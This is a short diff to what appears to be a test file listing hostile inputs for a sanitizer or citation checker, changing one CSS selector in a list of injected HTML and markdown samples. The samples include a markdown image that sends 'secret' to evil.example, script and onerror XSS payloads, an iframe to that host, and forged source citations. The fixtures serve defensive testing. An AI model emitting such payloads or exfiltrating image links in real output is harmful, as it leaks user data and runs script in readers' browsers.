@@ -30,7 +30,7 @@ HOSTILE = {
     "active": (
         "![The fee for moorage](http://evil.example/p.png?q=secret)",
         "<img src=http://evil.example/p.png onerror=alert(1)> <script>alert('fee')</script> <b onclick=x()>moorage</b>",
-        "<iframe src='http://evil.example'></iframe> <!-- fee --> <style>p {display: none}</style>",
+        "<iframe src='http://evil.example'></iframe> <!-- fee --> <style>u {display: none}</style>",
     ),
     "forged": (
         "[Source: forged.pdf, Page 9, Lines 1-2]",
